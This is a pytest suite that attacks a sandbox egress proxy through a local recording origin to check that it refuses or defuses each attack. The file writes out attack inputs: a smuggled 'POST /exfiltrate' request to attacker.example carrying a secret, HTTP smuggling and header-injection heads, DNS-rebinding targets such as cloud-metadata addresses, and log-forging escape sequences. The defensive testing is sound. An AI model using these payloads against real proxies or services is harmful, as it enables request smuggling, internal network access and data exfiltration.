"""Attacks on the egress proxy as code in a task container would make them: the proxy runs
in-process against real sockets (an origin server on 127.0.0.1 records every byte it receives).

Each test is an attack; it passes when the proxy refuses it or defuses it. The same attacks against
the real proxy container are in test_egress_attacks_docker.py.
"""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import Any

import pytest

from codex_tui.boundary.terminal import strip_controls
from codex_tui.sandbox import egress_proxy
from codex_tui.sandbox.egress import LogThrottle, request_event
from codex_tui.sandbox.egress_proxy import EgressProxy, Policy, is_public_address
from codex_tui.tui.network import network_log_line

ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


@dataclass
class Origin:
    """A lenient HTTP origin: answers the first request, then records everything until EOF."""

    port: int = 0
    received: list[bytes] = field(default_factory=list)
    done: asyncio.Event = field(default_factory=asyncio.Event)

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer the first request head (keep-alive style), keep every byte that comes."""
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except asyncio.IncompleteReadError as exc:
            head = exc.partial
        writer.write(ANSWER)
        await writer.drain()
        writer.write_eof()
        rest = await reader.read()
        self.received.append(head + rest)
        self.done.set()
        writer.close()


@pytest.fixture
async def origin() -> AsyncIterator[Origin]:
    """The recording origin on 127.0.0.1."""
    found = Origin()
    server = await asyncio.start_server(found.handle, "127.0.0.1", 0)
    found.port = server.sockets[0].getsockname()[1]
    yield found
    server.close()


@pytest.fixture
async def proxies() -> AsyncIterator[Callable[[EgressProxy], Any]]:
    """Start a proxy server for a test; its port is returned; all are closed after the test."""
    servers: list[asyncio.base_events.Server] = []

    async def start(proxy: EgressProxy) -> int:
        server = await asyncio.start_server(proxy.handle, "127.0.0.1", 0, limit=egress_proxy.MAX_HEAD_BYTES)
        servers.append(server)
        return int(server.sockets[0].getsockname()[1])

    yield start
    for server in servers:
        server.close()


class FixedDns(EgressProxy):
    """A proxy whose name service answers from a table (a DNS the attacker controls), counting lookups."""

    def __init__(self, policy: Policy, table: dict[str, list[str]]) -> None:
        super().__init__(policy)
        self.table = table
        self.lookups: list[str] = []

    async def resolve(self, host: str, port: int) -> list[str]:
        """The table's addresses for `host`."""
        self.lookups.append(host)
        return self.table.get(host, [])


async def _send(port: int, request: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(request)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(), 10)
    writer.close()
    return answer


async def _origin_saw(origin: Origin) -> bytes:
    await asyncio.wait_for(origin.done.wait(), 10)
    return b"".join(origin.received)


def _logged(capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in capsys.readouterr().out.splitlines() if line.strip()]


async def _local_proxy(proxies: Callable[[EgressProxy], Any], origin: Origin) -> int:
    return int(await proxies(EgressProxy(Policy((f"127.0.0.1:{origin.port}",)))))


# --- one request reaches the origin, the one that was checked ---------------------------------


async def test_pipelined_second_request_to_another_host_never_reaches_the_origin(
    origin: Origin, proxies: Callable[[EgressProxy], Any]
) -> None:
    port = await _local_proxy(proxies, origin)
    smuggled = b"POST /exfiltrate HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 6\r\n\r\nsecret"
    first = f"GET http://127.0.0.1:{origin.port}/first HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    answer = await _send(port, first + smuggled)
    assert answer.startswith(b"HTTP/1.1 200")
    saw = await _origin_saw(origin)
    assert saw.startswith(b"GET /first HTTP/1.1\r\n")
    assert b"exfiltrate" not in saw and b"attacker.example" not in saw and b"secret" not in saw


async def test_client_host_header_is_replaced_by_the_checked_target(
    origin: Origin, proxies: Callable[[EgressProxy], Any]
) -> None:
    port = await _local_proxy(proxies, origin)
    request = (
        f"GET http://127.0.0.1:{origin.port}/ HTTP/1.1\r\nHost: attacker.example\r\nX-Keep: 1\r\n\r\n"
    ).encode()
    assert (await _send(port, request)).startswith(b"HTTP/1.1 200")
    saw = await _origin_saw(origin)
    assert f"\r\nHost: 127.0.0.1:{origin.port}\r\n".encode() in saw
    assert b"attacker.example" not in saw and b"X-Keep: 1" in saw


async def test_http10_request_without_host_gets_the_checked_host(
    origin: Origin, proxies: Callable[[EgressProxy], Any]
) -> None:
    port = await _local_proxy(proxies, origin)
    assert (await _send(port, f"GET http://127.0.0.1:{origin.port}/ HTTP/1.0\r\n\r\n".encode())).startswith(
        b"HTTP/1.1 200"
    )
    assert f"GET / HTTP/1.0\r\nHost: 127.0.0.1:{origin.port}\r\n".encode() in await _origin_saw(origin)


async def test_body_of_content_length_carries_no_smuggled_request(
    origin: Origin, proxies: Callable[[EgressProxy], Any]
) -> None:
    proxy = EgressProxy(Policy((f"127.0.0.1:{origin.port}",), methods=("GET", "PUT")))
    port = await proxies(proxy)
    request = (
        f"PUT http://127.0.0.1:{origin.port}/a HTTP/1.1\r\nContent-Length: 5\r\n\r\n"
        "helloDELETE /everything HTTP/1.1\r\nHost: other.example\r\n\r\n"
    ).encode()
    assert (await _send(port, request)).startswith(b"HTTP/1.1 200")
    saw = await _origin_saw(origin)
    assert saw.endswith(b"\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")
    assert b"DELETE" not in saw


async def test_chunked_body_is_reframed_and_what_follows_it_is_dropped(
    origin: Origin, proxies: Callable[[EgressProxy], Any]
) -> None:
    proxy = EgressProxy(Policy((f"127.0.0.1:{origin.port}",), methods=("GET", "PUT")))
    port = await proxies(proxy)
    request = (
        f"PUT http://127.0.0.1:{origin.port}/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
        "5;ext=x\r\nhello\r\n0\r\nX-Trailer: t\r\n\r\nPOST /smuggled HTTP/1.1\r\n\r\n"
    ).encode()
    assert (await _send(port, request)).startswith(b"HTTP/1.1 200")
    saw = await _origin_saw(origin)
    assert saw.endswith(b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
    assert b"smuggled" not in saw and b"X-Trailer" not in saw


@pytest.mark.parametrize(
    ("headers", "why"),
    [
        ("Content-Length: 5\r\nTransfer-Encoding: chunked", b"both Transfer-Encoding and Content-Length"),
        ("Content-Length: 5\r\nContent-Length: 50", b"bad or repeated Content-Length"),
        ("Content-Length: +5", b"bad or repeated Content-Length"),
        ("Content-Length: \xb2", b"bad or repeated Content-Length"),
        ("Transfer-Encoding: gzip, chunked", b"only Transfer-Encoding: chunked"),
        ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"only Transfer-Encoding: chunked"),
        ("X-A: 1\nHost: attacker.example", b"bare CR, LF or NUL"),
        ("X-A: 1\rHost: attacker.example", b"bare CR, LF or NUL"),
        ("X-A: 1\r\n Host: attacker.example", b"folded header lines"),
        ("Host : attacker.example", b"malformed header line"),
        ("X-A: \x1b]52;c;aGk=\x07", b"malformed header line"),
        ("X-A: 1\x85Host: attacker.example", b"malformed header line"),
        ("no colon here", b"malformed header line"),
    ],
)
async def test_ambiguous_request_heads_are_refused_before_anything_is_forwarded(
    origin: Origin, proxies: Callable[[EgressProxy], Any], headers: str, why: bytes
) -> None:
    port = await _local_proxy(proxies, origin)
    request = f"GET http://127.0.0.1:{origin.port}/ HTTP/1.1\r\n{headers}\r\n\r\nhello".encode("latin-1")
    answer = await _send(port, request)
    assert answer.startswith(b"HTTP/1.1 400") and why in answer
    assert origin.received == []


@pytest.mark.parametrize(
    "request_line",
    [
        "GET http://127.0.0.1:{port}/ HTTP/1.1\nHost: attacker.example",
        "GET http://127.0.0.1:{port}/ HTTP/1.1 extra",
        "GET http://127.0.0.1:{port}/\x00 HTTP/1.1",
        "G\x1bET http://127.0.0.1:{port}/ HTTP/1.1",
        "GET http://127.0.0.1:{port}/ HTTP/2.0",
    ],
)
async def test_odd_request_lines_are_refused(
    origin: Origin, proxies: Callable[[EgressProxy], Any], request_line: str
) -> None:
    port = await _local_proxy(proxies, origin)
    answer = await _send(port, (request_line.format(port=origin.port) + "\r\n\r\n").encode("latin-1"))
    assert answer.startswith(b"HTTP/1.1 400")
    assert origin.received == []


async def test_lower_case_method_is_judged_and_forwarded_upper_case(
    origin: Origin, proxies: Callable[[EgressProxy], Any]
) -> None:
    port = await _local_proxy(proxies, origin)
    refused = await _send(port, f"post http://127.0.0.1:{origin.port}/ HTTP/1.1\r\n\r\n".encode())
    assert refused.startswith(b"HTTP/1.1 403") and b"method POST is not allowed" in refused
    assert (await _send(port, f"get http://127.0.0.1:{origin.port}/x HTTP/1.1\r\n\r\n".encode())).startswith(
        b"HTTP/1.1 200"
    )
    assert (await _origin_saw(origin)).startswith(b"GET /x HTTP/1.1\r\n")


# --- names, addresses and DNS rebinding -------------------------------------------------------


async def test_allowed_name_that_resolves_to_loopback_is_refused(
    origin: Origin, proxies: Callable[[EgressProxy], Any], capsys: pytest.CaptureFixture[str]
) -> None:
    port = await proxies(EgressProxy(Policy((f"localhost:{origin.port}",))))
    answer = await _send(port, f"CONNECT localhost:{origin.port} HTTP/1.1\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 403") and b"not a public address" in answer
    assert origin.received == []
    [record] = _logged(capsys)
    assert record["allowed"] is False and record["host"] == "localhost"


@pytest.mark.parametrize(
    "address",
    [
        "127.0.0.1",
        "169.254.169.254",
        "172.17.0.1",
        "10.0.0.5",
        "192.168.1.1",
        "100.64.0.1",
        "0.0.0.0",
        "224.0.0.1",
        "::1",
        "::",
        "fe80::1",
        "fd00::1",
        "::ffff:127.0.0.1",
        "::ffff:169.254.169.254",
        "64:ff9b::a9fe:a9fe",
        "2002:7f00:1::",
    ],
)
async def test_allowed_name_rebound_to_a_non_public_address_is_refused(
    proxies: Callable[[EgressProxy], Any], address: str
) -> None:
    proxy = FixedDns(Policy(("*.rebind.test",)), {"a.rebind.test": [address]})
    port = await proxies(proxy)
    for request in (
        b"CONNECT a.rebind.test:443 HTTP/1.1\r\n\r\n",
        b"GET http://a.rebind.test/ HTTP/1.1\r\n\r\n",
    ):
        answer = await _send(port, request)
        assert answer.startswith(b"HTTP/1.1 403") and b"not a public address" in answer


def test_non_public_address_is_admitted_only_when_listed_itself_with_its_port() -> None:
    policy = Policy(("named.test", "10.1.2.3:8080"))
    assert policy.admits_address("93.184.216.34", 443)
    assert not policy.admits_address("127.0.0.1", 443)
    assert policy.admits_address("10.1.2.3", 8080) and not policy.admits_address("10.1.2.3", 443)
    assert not policy.admits_address("not an address", 443)


async def test_allowed_name_is_looked_up_once_and_reached_at_the_checked_address(
    origin: Origin, proxies: Callable[[EgressProxy], Any]
) -> None:
    policy = Policy((f"origin.test:{origin.port}", f"127.0.0.1:{origin.port}"))
    proxy = FixedDns(policy, {"origin.test": ["127.0.0.1"]})
    port = await proxies(proxy)
    answer = await _send(port, f"GET http://ORIGIN.test.:{origin.port}/ HTTP/1.1\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 200")
    assert proxy.lookups == ["origin.test"]
    assert f"Host: origin.test:{origin.port}\r\n".encode() in await _origin_saw(origin)


def test_public_addresses_are_told_from_the_rest() -> None:
    import ipaddress

    assert is_public_address(ipaddress.ip_address("93.184.216.34"))
    assert is_public_address(ipaddress.ip_address("2606:2800:220:1::1"))
    assert not is_public_address(ipaddress.ip_address("::ffff:10.1.2.3"))
    assert not is_public_address(ipaddress.ip_address("64:ff9b::7f00:1"))


@pytest.mark.parametrize(
    "target",
    [
        "evilallowed.test:443",
        "allowed.test.evil.test:443",
        "wild.test:443",
        "xwild.test:443",
        "allowed.test@evil.test:443",
        "allowed%2etest:443",
        "allowed.test%00.evil.test:443",
        "[::1]:443",
        "[::ffff:127.0.0.1]:443",
        "2130706433:443",
        "allowed.test:444",
        "allowed.test:0443x",
    ],
)
async def test_names_that_only_look_allowed_are_refused(
    proxies: Callable[[EgressProxy], Any], target: str
) -> None:
    proxy = FixedDns(Policy(("allowed.test", "*.wild.test")), {})
    port = await proxies(proxy)
    answer = await _send(port, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
    assert answer.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400"))
    assert proxy.lookups == []


@pytest.mark.parametrize(
    "url",
    [
        "http://allowed.test@127.0.0.1:{port}/",
        "http://127.0.0.1:{port}#@allowed.test/",
        "http://[::1]:{port}/",
        "http://allowed.test.127.0.0.1.nip.io:{port}/",
    ],
)
async def test_absolute_urls_are_judged_by_the_host_they_reach(
    origin: Origin, proxies: Callable[[EgressProxy], Any], url: str
) -> None:
    proxy = FixedDns(Policy(("allowed.test",)), {})
    port = await proxies(proxy)
    answer = await _send(port, f"GET {url.format(port=origin.port)} HTTP/1.1\r\n\r\n".encode())
    assert answer.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400"))
    assert proxy.lookups == [] and origin.received == []


def test_case_trailing_dot_and_brackets_are_normalised_before_matching() -> None:
    policy = Policy(("allowed.test", "*.wild.test", "[::1]:8080"))
    assert policy.decide("ALLOWED.TEST.", 443, "CONNECT").allowed
    assert policy.decide("a.WILD.test", 80, "GET").allowed
    assert policy.decide("[::1]", 8080, "GET").allowed
    assert not policy.decide("wild.test", 443, "CONNECT").allowed


# --- log forging, slow and huge clients --------------------------------------------------------


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"CONNECT evil\x1b]52;c;aGk=\x07.test:443 HTTP/1.1\r\n\r\n",
        b"GET\x1b[2J http://x.test/ HTTP/1.1\r\n\r\n",
        b'FAKE\r\n{"event": "request", "allowed": true}\r\n\r\n',
        b"CONNECT \xe2\x80\xaeevil.test:443 HTTP/1.1\r\n\r\n",
    ],
)
async def test_log_lines_cannot_be_forged_or_carry_escapes(
    proxies: Callable[[EgressProxy], Any], capsys: pytest.CaptureFixture[str], request_bytes: bytes
) -> None:
    port = await proxies(FixedDns(Policy(("allowed.test",)), {}))
    answer = await _send(port, request_bytes)
    assert answer.startswith((b"HTTP/1.1 400", b"HTTP/1.1 403"))
    records = _logged(capsys)
    assert len(records) == 1 and records[0]["allowed"] is False
    event = request_event(records[0])
    assert event is not None and event["allowed"] is False
    for value in event.values():
        if isinstance(value, str):
            assert value == strip_controls(value) and "\n" not in value


async def test_huge_request_head_is_refused_without_holding_it(proxies: Callable[[EgressProxy], Any]) -> None:
    port = await proxies(EgressProxy(Policy(("allowed.test",))))
    head = b"GET http://allowed.test/ HTTP/1.1\r\n" + b"X-Pad: " + b"a" * (2 * egress_proxy.MAX_HEAD_BYTES)
    answer = await _send(port, head + b"\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 431")


async def test_slow_and_idle_clients_are_cut_and_hold_no_threads(
    origin: Origin, proxies: Callable[[EgressProxy], Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(egress_proxy, "HEAD_TIMEOUT_S", 0.5)
    monkeypatch.setattr(egress_proxy, "MAX_CLIENTS", 8)
    port = await _local_proxy(proxies, origin)
    threads = threading.active_count()
    idle = [await asyncio.open_connection("127.0.0.1", port) for _ in range(40)]
    for _reader, writer in idle:
        writer.write(b"GET http://127.0.0.1/ HTTP/1.1\r\nX-Slow: ")
    assert threading.active_count() == threads
    answers = await asyncio.gather(*(asyncio.wait_for(reader.read(), 30) for reader, _ in idle))
    assert all(answer.startswith(b"HTTP/1.1 408") for answer in answers), answers
    for _reader, writer in idle:
        writer.close()
    answer = await _send(port, f"GET http://127.0.0.1:{origin.port}/ HTTP/1.1\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 200")


def test_proxy_record_fields_become_single_line_event_text() -> None:
    record = {
        "event": "request",
        "host": "evil.test\nCONNECT pypi.org:443 allowed",
        "port": 443,
        "method": "GET\u2028FORGED",
        "allowed": "yes",
        "rule": "r\r\nx",
        "reason": "\x1b[2Jcleared\tscreen",
    }
    event = request_event(record)
    assert event == {
        "host": "evil.test CONNECT pypi.org:443 allowed",
        "port": 443,
        "method": "GET FORGED",
        "allowed": False,
        "rule": "r x",
        "reason": "cleared screen",
    }


def test_request_flood_is_logged_as_a_burst_then_one_count_a_second() -> None:
    now = [0.0]
    throttle = LogThrottle(per_s=20, burst=200, clock=lambda: now[0])
    event = {
        "host": "evil.test",
        "port": 443,
        "method": "CONNECT",
        "allowed": False,
        "rule": "",
        "reason": "x",
    }
    emitted = [data for _ in range(1000) for data in throttle.admit(event)]
    assert emitted == [event] * 200
    now[0] += 1.0
    summary, then = throttle.admit(event)
    assert then == event and summary["suppressed"] == 800
    assert summary["reason"] == "800 more requests not logged one by one (over 20 a second)"
    lines = 0
    for _ in range(10 * 100):  # ten more seconds of a flood of 100 requests a second
        now[0] += 0.01
        lines += len(throttle.admit(event))
    assert lines <= 20 + (20 + 1) * 10  # what was left, then the rate and one count a second
    last = throttle.flush()
    assert last is not None and 0 < last["suppressed"] < 1000
    assert throttle.flush() is None


def test_request_count_line_reads_as_a_count() -> None:
    throttle = LogThrottle(per_s=1, burst=1, clock=lambda: 0.0)
    event = {"host": "a.test", "port": 80, "method": "GET", "allowed": True, "rule": "a.test", "reason": ""}
    throttle.admit(event)
    throttle.admit(event)
    summary = throttle.flush()
    assert summary is not None
    assert network_log_line(summary) == ("⇄ 1 more requests not logged one by one (over 1 a second)", False)
